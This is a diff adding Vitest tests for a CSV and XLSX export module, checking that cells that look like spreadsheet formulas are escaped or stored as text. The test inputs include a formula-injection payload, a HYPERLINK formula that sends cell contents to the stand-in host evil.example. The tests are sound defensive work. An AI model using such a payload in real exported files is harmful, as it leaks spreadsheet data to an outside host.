@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { gadgetContract, gadgetRow } from '../../testing/fake-resource';
 import { ok, stubApi } from '../../testing/test-utils';
-import { fetchAllRows, toCsv } from './export';
+import { exportFile, fetchAllRows, toCsv } from './export';
 
 /** A list of `total()` gadgets served page by page, with the `meta` given. */
 function stubPages(total: () => number, meta: (page: number, limit: number) => Record<string, unknown>) {
@@ -25,6 +25,45 @@ describe('export', () => {
       ],
     );
     expect(csv).toBe('\uFEFFName,Note\r\n"Toko ""Maju"", Jaya","a\nb"\r\nPlain,\r\n');
+  });
+
+  it('should write text that a spreadsheet would run as a formula as text, and leave number columns numbers', () => {
+    const csv = toCsv(
+      ['=Name', 'Delta', 'Note'],
+      [
+        ['=HYPERLINK("http://evil.example/?leak="&A2,"Klik")', -5, '-5 koreksi'],
+        ['+62 813', '-12.50', '@SUM(A1)'],
+        ['\tTab', '=1+1', '\rCR'],
+        ['Toko Biasa', 7, 'a-b'],
+      ],
+      ['text', 'number', 'text'],
+    );
+    expect(csv.slice(1).split('\r\n')).toEqual([
+      `"'=Name",Delta,Note`,
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Klik"")",-5,"'-5 koreksi"`,
+      // A number column's number stays a number, even as text; anything else in it is text.
+      `"'+62 813",-12.50,"'@SUM(A1)"`,
+      `"'\tTab","'=1+1","'\rCR"`,
+      'Toko Biasa,7,a-b',
+      '',
+    ]);
+  });
+
+  it('should keep XLSX cells typed: text that looks like a formula is a text cell, as written', async () => {
+    const name = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")';
+    const blob = await exportFile('xlsx', 'Toko', ['Nama', 'Poin'], [[name, -5]]);
+    const ExcelJS = (await import('exceljs')).default;
+    const wb = new ExcelJS.Workbook();
+    const bytes = await new Promise<ArrayBuffer>((resolve) => {
+      const reader = new FileReader();
+      reader.onload = () => resolve(reader.result as ArrayBuffer);
+      reader.readAsArrayBuffer(blob);
+    });
+    await wb.xlsx.load(bytes);
+    const row = wb.worksheets[0].getRow(2);
+    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
+    expect(row.getCell(1).value).toBe(name);
+    expect(row.getCell(2).value).toBe(-5);
   });
 
   it('should fetch every page of the current filter, 100 rows at a time, up to the cap', async () => {
